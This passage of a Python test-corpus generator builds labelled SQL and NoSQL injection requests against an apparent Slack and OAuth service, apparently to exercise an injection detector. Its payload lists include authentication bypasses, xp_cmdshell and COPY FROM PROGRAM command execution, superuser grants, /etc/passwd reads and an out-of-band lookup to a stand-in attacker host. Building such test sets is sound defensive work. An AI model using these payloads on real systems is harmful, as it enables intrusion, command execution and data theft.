     "x' AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE rownum=1),1,1))=79--"),
    ("oauth:/verify_token:audience", "x' AND instr(sqlite_version(),'3.')=1--"),
    ("slack-interaction:value", "x' AND encode(convert_to(current_user,'UTF8'),'hex')='6a6565766573'--"),
    ("form:/admin/slack-sign-in:team_id", "T0' AND reverse(current_user)='seveej'--"),
    ("query:until", "x' AND split_part(version(),' ',2)='16.3'--"),
    ("header:X-Request-Id", "x' AND bit_length(current_user)>0--"),
    ("json:settings.units", "metric' AND translate(current_user,'j','J')='Jeeves'--"),
    ("oauth:/oauth/introspect:token",
     "x' AND octet_length((SELECT private_key_enc FROM signing_keys LIMIT 1))>100--"),
    ("path:/auth/slack/link/", "x' AND starts_with(version(),'Postgre')--"),
]

# sql-authentication-bypass: making the credential check true. Target: the admin login (admin_accounts by
# username, argon2 password, TOTP), TokenDealer's client authentication (oauth_clients, form and Basic),
# the sign-in link token, the session cookies.
AUTH_BYPASS: list[Entry] = [
    *_on("form:/admin/login:username", "admin' --", "admin' OR '1'='1", "' OR 1=1 LIMIT 1--",
         "admin') OR ('1'='1", "' OR username LIKE 'adm%'--", "admin' AND password_hash IS NOT NULL--",
         "' OR 1=1 ORDER BY id LIMIT 1 --", "'=' 'or'", "admin'||'", "\" OR \"\"=\"",
         "' UNION SELECT 1,'admin','$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$aGFzaGhhc2g',NULL,TRUE--"),
    *_on("form:/admin/login:password", "pass' OR ''='", "x' OR 'x'='x", "anything' OR 'x'='x'#"),
    ("form:/admin/login:totp", "000000' OR '1'='1"),
    *_on("oauth:/oauth/token:client_id", "demo-client' --", "' OR EXISTS(SELECT 1 FROM oauth_clients)--",
         "jeeves-admin' OR 'unusual'='unusual"),
    *_on("oauth:/oauth/token:client_secret", "' OR 1=1 --", "1' or '1'='1'))--"),
    ("header:Authorization", _basic("demo-client' OR '1'='1", "x")),
    ("header:Authorization", _basic("jeeves-admin'--", "nothing")),
    ("oauth:/oauth/introspect:client_id", "jeeves-worker' OR 1=1 LIMIT 1--"),
    ("path:/auth/slack/link/", "x' OR used_at IS NULL--"),
    ("cookie:__Host-jeeves_admin", "' OR 1=1--"),
    ("cookie:__Host-jeeves_me", "x' OR user_id IS NOT NULL--"),
    ("form:/admin/slack-sign-in:user_id", "U0' OR true--"),
]

# nosql-injection: Mongo query operators and $where JavaScript. Target: any document store or JSON filter behind
# the JSON fields and forms (the product runs PostgreSQL; a tester checks that operators are refused, not passed
# through): operator objects as JSON values, bracketed parameter names (qs/body-parser style), whole JSON bodies,
# and strings that break out of a $where expression.
NOSQL: list[Entry] = [
    ("jsonv:name", '{"$ne": null}'),
    ("jsonv:email", '{"$regex": ".*"}'),
    ("jsonv:settings", '{"timezone": {"$gt": ""}}'),
    ("jsonv:team_id", '{"$in": ["*", "T061EG9R6"]}'),
    ("raw-query:/api/users", "team_id[$ne]=x"),
    ("raw-form:/admin/login", "username[$ne]=x&password[$ne]=x"),
    ("raw-form:/oauth/token", "grant_type=client_credentials&client_id[$ne]=x&client_secret[$ne]=x"),
    ("raw-form:/admin/login", "username=admin&password[$regex]=^a"),
    ("raw-query:/admin/users", "q[$where]=sleep(5000)"),
    ("jsonv:name", '{"$where": "sleep(5000) || true"}'),
    ("json:name", "'; return true; var x='"),
    ("json:email", "a@example.org'; while(true){}; var y='"),
    ("json:name", "' || '1'=='1"),
    ("slack-event:text", "weather '; return this.is_admin == true; var d='"),
    ("jsonbody:/api/users/42", '{"$where": "this.is_admin == true"}'),
    ("jsonv:email", '{"$gt": ""}'),
    ("jsonv:name", '{"$exists": true}'),
    ("jsonv:name", '{"$expr": {"$eq": [1, 1]}}'),
    ("jsonv:name", '{"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}'),
    ("jsonv:team_id", '{"$nin": []}'),
    ("raw-query:/api/users", "team_id[$regex]=^T&team_id[$options]=i"),
    ("raw-query:/api/usage/stats", "since[$gt]=&until[$lt]=~"),
    ("raw-form:/verify_token", "access_token[$ne]=1"),
    ("raw-form:/me/location", "place[$ne]=x"),
    ("jsonv:settings", '{"$set": {"is_admin": true}}'),
    ("jsonbody:/api/users/42", '{"name": "Ann", "$where": "function(){return true}"}'),
    ("json:email", "x'}); db.users.find({'is_admin': true"),
    ("raw-query:/admin/audit", "q[$gt]=&page=1"),
]

# hex/char encoding: strings written without quotes or in another encoding. Target: PostgreSQL (CHR()||,
# decode(...,'hex'), E'\\x..', U&'...', dollar quotes, a hex-encoded statement run by DO/EXECUTE), MySQL (0x, x'',
# b'', CHAR(), UNHEX), MSSQL (0x... into EXEC, CHAR()+), Oracle (CHR, hextoraw), SQLite (X'..', char()), URL and
# JSON-unicode encodings of the quote.
HEX_CHAR: list[Entry] = [
    ("query:team_id", "T061EG9R6' AND current_user=CHR(106)||CHR(101)||CHR(101)||CHR(118)||CHR(101)||CHR(115)--"),
    ("query:/admin/users:q", "' AND convert_from(decode('6a6565766573','hex'),'UTF8')=current_user--"),
    ("json:name", "x' UNION SELECT convert_from('\\x" + _hx("admin") + "'::bytea,'UTF8')--"),
    ("form:/me/location:place", "x' AND E'\\x41'='A'--"),
    ("slack-command:text", "weather x' AND U&'\\0061\\0064'='ad'--"),
    ("query:/admin/audit:q", "' OR action=$$user.login$$--"),
    ("slack-event:text",
     "remember location x'; DO $$BEGIN EXECUTE convert_from(decode('" + _hx("SELECT pg_sleep(5)")
     + "','hex'),'UTF8'); END$$--"),
    ("path:/api/users/", "1 AND (SELECT username FROM admin_accounts LIMIT 1)=decode('" + _hx("admin")  # noqa: S608
     + "','hex')::text"),
    ("form:/admin/login:username", "x' OR username=0x" + _hx("admin") + "#"),
    ("header:User-Agent", "' UNION SELECT LOAD_FILE(0x" + _hx("/etc/passwd") + ")#"),
    ("oauth:/oauth/token:client_secret", "x' OR client_secret=CHAR(97,100,109,105,110)#"),
    ("oauth:/oauth/token:client_id", "' UNION SELECT UNHEX('" + _hx("demo-client") + "')#"),
    ("json:email", "a@example.org' AND x'" + _hx("admin") + "'='admin'#"),
    ("query:offset", "0 AND 0x41=CHAR(65)"),
    ("cookie:__Host-jeeves_admin", "x' AND b'01100001'='a'#"),
    ("form:/admin/clients:description",
     "'; DECLARE @s varchar(99); SET @s=0x" + _hx("select name from sys.tables") + "; EXEC(@s)--"),  # noqa: S608
    ("form:/admin/features:team_id",
     "T0'; EXEC(CHAR(115)+CHAR(104)+CHAR(117)+CHAR(116)+CHAR(100)+CHAR(111)+CHAR(119)+CHAR(110))--"),
    ("oauth:/verify_token:audience", "x' AND NCHAR(65)+NCHAR(66)='AB'--"),
    ("json:team_id", "*' AND user=CHR(83)||CHR(89)||CHR(83)--"),
    ("query:/auth/slack/callback:state", "x' AND utl_raw.cast_to_varchar2(hextoraw('41'))='A'--"),
    ("slack-interaction:value", "x' UNION SELECT char(115,113,108)--"),
    ("json:settings.timezone", "UTC' AND X'41'='A'--"),
    ("query:limit", "%27%20OR%20%271%27%3D%271"),
    ("jsonbody:/api/users/42", '{"name": "Ann\\u0027 OR \\u00271\\u0027=\\u00271"}'),
    ("jsonbody:/api/switches/weather", '{"enabled": true, "team_id": "\\u0027 OR 1=1--"}'),
    ("oauth:/oauth/token:scope", "read%2527%2520OR%25201%253D1--"),
    ("header:X-Forwarded-For", "0x27204f5220313d31"),
    ("form:/admin/slack-sign-in:username", "x' OR username=convert_from('\\x61646d696e','SQL_ASCII')--"),
]

# stored-procedure/xp_cmdshell: the database's own procedures and extensions that run commands or change
# logins. Target: MSSQL (xp_cmdshell, sp_configure, sp_addlogin, sp_OACreate, xp_regread, sp_executesql),
# PostgreSQL (COPY ... FROM PROGRAM, a C function on libc's system, plpython3u, DO blocks), MySQL UDFs
# (lib_mysqludf_sys), Oracle (DBMS_SCHEDULER, DBMS_JAVA).
PROCEDURES: list[Entry] = [
    ("query:team_id", "T061EG9R6'; EXEC xp_cmdshell 'whoami'--"),
    ("json:name", "x'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.9'--"),
    ("query:/admin/users:q", "'; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE--"),
    ("form:/admin/login:username", "'; EXEC sp_addlogin 'pwn','P@ss1'--"),
    ("query:/admin/audit:q", "'; EXEC sp_addsrvrolemember 'pwn','sysadmin'--"),
    ("form:/me/location:place", "x'; DECLARE @o int; EXEC sp_OACreate 'WScript.Shell',@o OUT--"),
    ("slack-command:text", "weather x'; EXEC sp_executesql N'SELECT @@version'--"),
    ("oauth:/oauth/token:client_id",
     "x'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters',"
     "'Hostname'--"),
    ("json:email", "a@example.org'; EXEC sp_password NULL,'pwn','sa'--"),
    ("form:/admin/clients:description", "'; EXEC xp_servicecontrol 'start','schedule'--"),
    ("cookie:__Host-jeeves_admin", "x'; EXEC sp_linkedservers--"),
    ("header:User-Agent", "'; EXEC('xp_cmdshell ''dir c:\\''')--"),
    ("path:/api/users/", "1; COPY (SELECT 1) TO PROGRAM 'id'--"),
    ("slack-event:text",
     "remember location x'; CREATE TABLE cmd(o text); COPY cmd FROM PROGRAM 'id'; SELECT * FROM cmd--"),
    ("json:settings.timezone",
     "UTC'; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
     "LANGUAGE C STRICT--"),
    ("query:offset", "0; SELECT sys('id > /tmp/o')"),
    ("oauth:/verify_token:audience", "x'; DO LANGUAGE plpgsql $$BEGIN EXECUTE 'ALTER ROLE jeeves SUPERUSER'; END$$--"),
    ("form:/admin/features:team_id",
     "T0'; CREATE FUNCTION p() RETURNS text AS $$import os;return os.popen('id').read()$$ LANGUAGE plpython3u--"),
    ("slack-interaction:value", "x'; SELECT lo_from_bytea(0,'\\x7f454c46')--"),
    ("json:team_id", "*'; SELECT sys_exec('id')--"),
    ("oauth:/oauth/token:scope", "read'; SELECT sys_eval('whoami')#"),
    ("form:/admin/slack-sign-in:username", "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'#"),
    ("query:/auth/slack/callback:state",
     "x'; BEGIN DBMS_SCHEDULER.create_job(job_name=>'j',job_type=>'EXECUTABLE',job_action=>'/bin/sh'); END;--"),
    ("query:until", "x' AND DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/id') IS NOT NULL--"),
    ("header:X-Forwarded-For", "1';EXEC master..xp_cmdshell 'nslookup oob.attacker.example'--"),
    ("json:settings.units", "metric'; CALL pg_catalog.pg_reload_conf()--"),
    ("form:/admin/users/42/active:q",
     "'; CREATE EXTENSION plperlu; CREATE FUNCTION x() RETURNS text AS $$return `id`$$ LANGUAGE plperlu--"),
    ("oauth:/oauth/revoke:token", "x'; EXEC master.dbo.sp_OAMethod @o,'Run',NULL,'cmd /c whoami'--"),
]

# having/group-by/order-by probing: counting columns and inferring through the sort. Target: PostgreSQL (ORDER
# BY a CASE, a subquery or a division by zero; the sort key a tester tries on /api/users even though it has none,
# the page fields), MSSQL (HAVING 1=1 names the columns in its error), MySQL (GROUP BY ... floor(rand)).
ORDERING: list[Entry] = [
    *_on("query:sort", "1 ORDER BY 1--", "(CASE WHEN (1=1) THEN id ELSE name END)",
         "name,(SELECT CASE WHEN current_user='jeeves' THEN 1 ELSE 1/0 END)",
         "created_at,(SELECT CASE WHEN (SELECT count(*) FROM admin_accounts)>0 THEN 1 ELSE 1/0 END)",
         "id DESC NULLS FIRST,(SELECT 1 FROM admin_accounts LIMIT 1)", "name COLLATE \"C\""),
    *_on("query:team_id", "T061EG9R6' ORDER BY 10--", "T061EG9R6' ORDER BY 11--"),
    ("query:/admin/users:q", "' GROUP BY id HAVING 1=1--"),
    ("query:/admin/audit:q", "' HAVING 1=1--"),
    ("form:/admin/login:username", "' GROUP BY users.id,users.name HAVING 1=1--"),
    ("path:/api/users/", "1 GROUP BY 1,2,3--"),
    ("json:name", "x' ORDER BY 1 DESC--"),
    ("json:email", "a@example.org' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#"),
    ("query:offset", "0 ORDER BY (SELECT NULL)"),
    ("form:/me/location:place", "x' ORDER BY 3-- -"),
    ("slack-command:text", "remember location -1' GROUP BY 1,2,3,4,5,6,7,8,9,10--"),
    ("query:limit", "1 PROCEDURE ANALYSE()"),
    ("oauth:/oauth/token:client_id", "demo-client' HAVING 1=1 AND '1'='1"),
    ("query:/admin/users:page", "1) ORDER BY 5--"),
    ("slack-event:text", "weather x' ORDER BY id LIMIT 1 OFFSET 1--"),
    ("oauth:/oauth/token:scope", "read' GROUP BY client_id HAVING count(*)>1--"),
    ("query:/admin/audit:page", "1 ORDER BY (SELECT 1 FROM pg_user LIMIT 1)"),
    ("form:/admin/clients:client_id", "x' GROUP BY client_id,scopes HAVING 1=1--"),
    ("cookie:__Host-jeeves_me", "x' ORDER BY 2--"),
    ("header:User-Agent", "' GROUP BY 1 HAVING 1=1-- "),
    ("json:team_id", "*' ORDER BY (SELECT 1/(SELECT count(*)-1 FROM feature_switches))--"),
    ("slack-interaction:value", "x' ORDER BY CASE WHEN substr(current_user,1,1)='j' THEN 1 ELSE 2 END--"),
]

# like/between/in operators: the comparisons a tester uses when `=` is filtered or to walk a value by prefix.
# Target: PostgreSQL (LIKE, ILIKE, SIMILAR TO, ~, ANY, SOME, IN/NOT IN, BETWEEN), MySQL (RLIKE, REGEXP,
# SOUNDS LIKE), SQLite (GLOB).
OPERATORS: list[Entry] = [
    ("query:/admin/users:q", "%' AND username LIKE 'a%"),
    ("query:team_id", "' OR slack_team_id LIKE '%"),
    ("path:/api/users/", "1 OR 1 LIKE 1"),
    ("form:/admin/login:username", "' AND password_hash LIKE '$argon2%'--"),
    ("query:/admin/audit:q", "' OR actor ILIKE '%admin%'--"),
    ("json:name", "x' OR 1 BETWEEN 0 AND 2--"),
    ("form:/me/location:place", "x' AND ascii(substr(current_user,1,1)) BETWEEN 97 AND 122--"),
    ("slack-command:text", "weather x' OR 1 IN (1)--"),
    ("slack-event:text", "remember location x' OR 'a' IN ('a','b')--"),
    ("oauth:/oauth/token:client_id", "x' AND current_user IN (SELECT rolname FROM pg_roles WHERE rolsuper)--"),
    ("query:offset", "0 OR id NOT IN (0)"),
    ("json:settings.timezone", "UTC' AND version() SIMILAR TO 'P%'--"),
    ("json:email", "a@example.org' AND version() ~ '^PostgreSQL 1[5-7]'--"),
    ("form:/admin/clients:description", "' OR 'x' NOT LIKE 'y"),
    ("oauth:/verify_token:audience", "x' OR 2 NOT BETWEEN 3 AND 4--"),
    ("header:User-Agent", "' AND username RLIKE '^a'#"),
    ("form:/admin/features:team_id", "T0' AND user() REGEXP '^root'#"),
    ("cookie:__Host-jeeves_admin", "x' OR 1 SOUNDS LIKE 1#"),
    ("oauth:/oauth/token:scope",
     "read' AND (SELECT 1 FROM oauth_clients WHERE secret_digest LIKE 'a%' LIMIT 1) IS NOT NULL--"),
    ("query:/admin/users:page", "1%' OR slack_user_id ILIKE 'U%' --"),
    ("json:team_id", "*' OR is_admin IN (true)--"),
    ("query:since", "x' OR current_setting('server_version_num') BETWEEN '150000' AND '170000'--"),
    ("slack-interaction:value", "x' OR 1=ANY(ARRAY[1])--"),
    ("query:/auth/slack/callback:state", "x' OR 'a'=SOME(SELECT 'a')--"),
    ("form:/admin/slack-sign-in:team_id", "T0' AND EXISTS(SELECT 1 WHERE 'a' LIKE 'a')--"),
    ("json:settings.units", "metric' AND (SELECT username FROM admin_accounts LIMIT 1) GLOB 'a*'--"),
    ("header:Referer", "https://localhost:8443/admin/users?q=\\' OR 1 LIKE 1#"),
    ("oauth:/oauth/introspect:token", "%' ESCAPE '\\' OR 1=1 --"),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENTS),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME_BLIND),
    ("sqli", "error-based", ERROR_BASED),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYSQL_COMMENTS),
    ("sqli", "function-based-probing", FUNCTIONS),
    ("sqli", "sql-authentication-bypass", AUTH_BYPASS),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", HEX_CHAR),
    ("sqli", "stored-procedure-xp-cmdshell", PROCEDURES),
    ("sqli", "having-group-order-by-probing", ORDERING),
    ("sqli", "like-between-in-operators", OPERATORS),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
RS_CYCLE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Test-Header", "rs-cookie", "rs-param-name"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"
KV_SAFE = "=&[]._-:/'*$!(),;{}~@^"

# what the tester's browser, Slack and the OAuth clients send around the field under test
ADMIN_COOKIE = "__Host-jeeves_admin=lQm3v8Wc0sXr5YtJ2kPz7HnB9fD4aE1gU6iO0pLqRs8"
ME_COOKIE = "__Host-jeeves_me=Vb7nK2pQ9sT4wX1zA6cE3gJ8mR0uY5iL2oP7hD4fN1k"
CSRF = "Zx9Lm2Qp7Rt4Vw1Ys6Ub3Nc8Kd5Jf0Hg2Ea7Tb4Wq9"
TEAM, USER, DM = "T061EG9R6", "U04ANNA7Q2", "D04JEEVES1"
HOOK = "https://hooks.slack.com/commands/T061EG9R6/6420158943/Vs0gRf3kXyQ2bN8tLm1pWc7d"
EPOCH = 1719000000
SLACK_HEADERS = {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)", "Accept": "*/*",
                 "Accept-Encoding": "gzip,deflate", "X-Slack-Request-Timestamp": str(EPOCH),
                 "X-Slack-Signature": "v0=" + "0" * 64}
FORM_CT = "application/x-www-form-urlencoded"

# the forms: their fields in order, None where the value under test goes
FORMS: dict[str, list[tuple[str, str | None]]] = {
    "/admin/login": [("csrf_token", CSRF), ("username", "admin"), ("password", "correct horse battery"),
                     ("totp", ""), ("next", "/admin/")],
    "/admin/features": [("csrf_token", CSRF), ("action", "weather"), ("team_id", TEAM), ("enabled", "0")],
    "/admin/clients": [("csrf_token", CSRF), ("client_id", "reporting-bot"), ("description", "nightly reports"),
                       ("scopes", "read")],
    "/admin/slack-sign-in": [("csrf_token", CSRF), ("username", "ops"), ("team_id", TEAM), ("user_id", USER)],
    "/admin/users/42/active": [("csrf_token", CSRF), ("value", "0"), ("q", "ann"), ("page", "1")],
    "/me/location": [("csrf_token", CSRF), ("place", "London")],
    "/me/settings": [("csrf_token", CSRF), ("units", "metric"), ("alert_time", "07:30"), ("timezone", "UTC"),
                     ("alerts", "on")],
    "/oauth/token": [("grant_type", "client_credentials"), ("client_id", "demo-client"),
                     ("client_secret", "q1W2e3R4t5Y6u7I8o9P0a1S2d3F4g5H6j7K8l9Z0x1C"), ("scope", "read")],
    "/oauth/introspect": [("client_id", "jeeves-worker"), ("client_secret", "s3cr3t-W0rk3r-k3y-9f8e7d6c5b4a"),
                          ("token", "eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCJ9.e30.sig")],
    "/oauth/revoke": [("client_id", "jeeves-worker"), ("client_secret", "s3cr3t-W0rk3r-k3y-9f8e7d6c5b4a"),
                      ("token", "eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCJ9.e30.sig"),
                      ("token_type_hint", "access_token")],
    "/verify_token": [("access_token", "eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCJ9.e30.sig"), ("audience", "jeeves")],
}
# the GET routes: their other parameters
QUERIES: dict[str, list[tuple[str, str]]] = {
    "/api/users": [("limit", "50"), ("offset", "0")],
    "/api/usage/stats": [("since", "2024-06-01T00:00:00Z"), ("until", "2024-06-02T00:00:00Z")],
    "/admin/users": [("q", "ann"), ("page", "1")],
    "/admin/audit": [("q", "login"), ("page", "1")],
    "/auth/slack/callback": [("state", "pQ7sLm2Vx9Rt4Wb1Yc6Nd3Kf8Jg0Hh5Ea2Tz7Ub4Io"),
                             ("code", "6420158943.7781.a1b2c3")],
}
API_QUERY = {"team_id", "limit", "offset", "active", "alerts", "sort"}


def _header_safe(value: str) -> bool:
    return all(" " <= ch <= "~" for ch in value) and len(value) < 2000


def _enc(value: str, safe: str = "") -> str:
    return urllib.parse.quote(value.encode(), safe=safe)


def _request(method: str, uri: str, body: str = "", content_type: str = "", **headers: str) -> dict[str, Any]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if content_type:
        h["Content-Type"] = content_type
    h.update(headers)
    return {"method": method, "uri": uri, "body": body, "headers": h}


def _cookie_for(path: str) -> dict[str, str]:
    if path.startswith("/admin/") and path != "/admin/login":
        return {"Cookie": ADMIN_COOKIE}
    if path.startswith("/me/"):
        return {"Cookie": ME_COOKIE}
    return {}


def _form_request(path: str, name: str, v: str) -> dict[str, Any]:
    fields = [(k, v if k == name else (d or "")) for k, d in FORMS[path]]
    return _request("POST", path, urllib.parse.urlencode(fields), FORM_CT, **_cookie_for(path))


def _query_request(path: str, name: str, v: str) -> dict[str, Any]:
    params = [(k, v if k == name else d) for k, d in QUERIES[path]]
    if name not in {k for k, _ in params}:
        params.insert(0, (name, v))
    return {**_get(_query(path, params)), "headers": {"User-Agent": UA, "Accept": "text/html,application/json",
                                                       **_cookie_for(path)}}


def _slack_event(field: str, v: Any, n: int) -> dict[str, Any]:
    ts = f"{EPOCH + n}.{n:06d}"
    event = {"type": "message", "channel_type": "im", "user": USER, "text": "weather Paris", "ts": ts,
             "channel": DM, "event_ts": ts}
    body: dict[str, Any] = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": TEAM, "api_app_id": "A0PNCHHK2",
                            "event": event, "type": "event_callback", "event_id": f"Ev0{n:08d}",
                            "event_time": EPOCH + n}
    if field in event:
        event[field] = v
    else:
        body[field] = v
    return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
            "headers": {**SLACK_HEADERS, "Content-Type": "application/json"}}


def _slack_command(field: str, v: str, n: int) -> dict[str, Any]:
    fields = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": TEAM, "team_domain": "acme", "channel_id": DM,
              "channel_name": "directmessage", "user_id": USER, "user_name": "ann", "command": "/jeeves",
              "text": "weather Paris", "api_app_id": "A0PNCHHK2", "is_enterprise_install": "false",
              "response_url": HOOK, "trigger_id": f"6420158943.{n}.0c8d2f"}
    fields[field] = v
    return {"method": "POST", "uri": "/slack/commands", "body": urllib.parse.urlencode(list(fields.items())),
            "headers": {**SLACK_HEADERS, "Content-Type": FORM_CT}}


def _slack_interaction(field: str, v: str, n: int) -> dict[str, Any]:
    action = {"action_id": "set_location", "block_id": "w1", "type": "button", "value": "Paris, FR",
              "action_ts": f"{EPOCH + n}.{n:06d}"}
    user = {"id": USER, "username": "ann", "team_id": TEAM}
    if field == "value":
        action["value"] = v
    else:
        user[field] = v
    payload = {"type": "block_actions", "user": user, "team": {"id": TEAM, "domain": "acme"},
               "channel": {"id": DM, "name": "directmessage"}, "response_url": HOOK,
               "trigger_id": f"6420158943.{n}.0c8d2f", "actions": [action]}
    return {"method": "POST", "uri": "/slack/interactions",
            "body": urllib.parse.urlencode([("payload", json.dumps(payload))]),
            "headers": {**SLACK_HEADERS, "Content-Type": FORM_CT}}


def _api_json(method: str, uri: str, doc: Any) -> dict[str, Any]:
    return {**_json(uri, doc), "method": method}


def _real(field: str, v: str, n: int) -> dict[str, Any]:
    """The request that puts `v` in the real field `field` (see the entry lists)."""
    kind, _, rest = field.partition(":")
    if kind == "query":
        if rest in API_QUERY:
            return _query_request("/api/users", rest, v)
        if rest in ("since", "until"):
            return _query_request("/api/usage/stats", rest, v)
        path, _, name = rest.rpartition(":")
        return _query_request(path, name, v)
    if kind in ("form", "oauth"):
        path, _, name = rest.rpartition(":")
        return _form_request(path, name, v)
    if kind == "path":
        if rest == "/api/switches/":
            return _api_json("PUT", rest + _enc(v), {"enabled": True, "team_id": "*"})
        return _get(rest + _enc(v))
    if kind in ("json", "jsonv"):
        value: Any = json.loads(v) if kind == "jsonv" else v
        if rest == "team_id":
            return _api_json("PUT", "/api/switches/weather", {"enabled": False, "team_id": value})
        if rest.startswith("settings."):
            return _api_json("PATCH", "/api/users/42", {"settings": {rest.split(".", 1)[1]: value}})
        return _api_json("PATCH", "/api/users/42", {rest: value})
    if kind == "jsonbody":
        method = "PUT" if rest.startswith("/api/switches/") else "PATCH"
        return {**_api_json(method, rest, {}), "body": v}
    if kind == "raw-query":
        return _query_request_raw(rest, v)
    if kind == "raw-form":
        body = _enc(v, KV_SAFE)
        if rest in FORMS and FORMS[rest][0][0] == "csrf_token":
            body = "csrf_token=" + CSRF + "&" + body
        return _request("POST", rest, body, FORM_CT, **_cookie_for(rest))
    if kind == "slack-event":
        return _slack_event(rest, v, n)
    if kind == "slack-command":
        return _slack_command(rest, v, n)
    if kind == "slack-interaction":
        return _slack_interaction(rest, v, n)
    if kind == "cookie":
        base = ADMIN_COOKIE if rest == "__Host-jeeves_admin" else ME_COOKIE
        others = "; ".join(c for c in (ADMIN_COOKIE, ME_COOKIE) if c is not base)
        uri = "/admin/users?page=1" if rest == "__Host-jeeves_admin" else "/me/"
        return _request("GET", uri, Cookie=rest + "=" + _enc(v, COOKIE_SAFE) + "; " + others)
    if kind == "header":
        uri = {"User-Agent": "/me/", "X-Forwarded-For": "/admin/login", "X-Request-Id": "/api/users?limit=50",
               "Referer": "/admin/users?page=2", "Authorization": "/oauth/token"}[rest]
        if rest == "Authorization":
            return _request("POST", uri, "grant_type=client_credentials&scope=read", FORM_CT, Authorization=v)
        return _request("GET", uri, **{rest: v})
    raise ValueError(field)


def _query_request_raw(path: str, v: str) -> dict[str, Any]:
    return {**_get(path + "?" + _enc(v, KV_SAFE)), "headers": {"User-Agent": UA, "Accept": "*/*",
                                                               **_cookie_for(path + "/")}}


def _xml_body(value: str, name: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><root><{name}>{escaped}</{name}></root>'


def _rs(place: str, path: str, name: str, v: str) -> dict[str, Any]:
    if place == "rs-query":
        return _request("GET", path + "?" + name + "=" + _enc(v))
    if place == "rs-form":
        return _request("POST", path, name + "=" + _enc(v), FORM_CT)
    if place == "rs-json":
        return _request("POST", path, json.dumps({name: v}), "application/json")
    if place == "rs-json-body":
        return _request("POST", path, v, "application/json")
    if place == "rs-xml":
        return _request("POST", path, _xml_body(v, name), "text/xml")
    if place == "rs-raw-body":
        return _request("POST", path, v, FORM_CT)
    if place == "rs-raw-kv":
        return _request("POST", path, _enc(v, KV_SAFE), FORM_CT)
    if place.startswith("rs-header:"):
        return _request("GET", path, **{place.split(":", 1)[1]: v})
    if place == "rs-cookie":
        return _request("GET", path, Cookie=name + "=" + _enc(v, COOKIE_SAFE))
    if place == "rs-param-name":
        return _request("GET", path + "?" + _enc(v) + "=1")
    if place == "rs-param-raw":
        return _request("GET", path + "?" + _enc(v, KV_SAFE))
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    """Header and cookie placements need a printable single-line ASCII value."""
    if place.startswith(("header:", "rs-header:", "cookie:")) or place == "rs-cookie":
        return _header_safe(v)
    return True


def _rs_place(field: str, i: int, s: int, v: str) -> tuple[str, str]:
    """The rs placement and the value it carries (Mongo operator values go as a JSON document)."""
    kind = field.split(":", 1)[0]
    if kind == "jsonv":
        return "rs-json-body", json.dumps({RS_NAMES[(i + 3 * s) % len(RS_NAMES)]: json.loads(v)})
    if kind == "jsonbody":
        return "rs-json-body", v
    if kind == "raw-query":
        return "rs-param-raw", v
    if kind == "raw-form":
        return "rs-raw-kv", v
    place = RS_CYCLE[(i + 2 * s) % len(RS_CYCLE)]
    if not _fits(place, v):
        place = ["rs-json", "rs-form", "rs-query"][i % 3]
    return place, v


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    seen: set[str] = set()
    for s, (category, sub, entries) in enumerate(FAMILIES):
        for i, (field, payload) in enumerate(entries):
            if payload in seen:
                raise ValueError(f"duplicate payload {payload!r}")
            seen.add(payload)
            real_place = field
            if not _fits(real_place, payload):
                real_place = "query:/admin/users:q"
            rs_place, rs_value = _rs_place(field, i, s, payload)
            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
            rs_name = RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
            real = _real(real_place, payload, n + 1)
            rs = _rs(rs_place, rs_path, rs_name, rs_value)
            for place, rec in ((real_place, real), (rs_place, rs)):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product, words and syntax, typed innocently (Slack chat and bios, admin searches, links,
# client descriptions, profiles, slash commands, /me/ forms, OAuth clients, ordinary headers)
CHAT = [
    "the /api/users endpoint takes limit and offset, max limit is 500; anything above is a 400",
    "PSA: the audit search matches actor, action and target, so searching 'login' finds every user.login row",
    "pentest report is in: no SQL injection found in the data API, two low findings on headers",
    "why does PATCH /api/users/42 with settings.timezone = 'Europe/Kyiv' return 400? old tzdata on the box?",
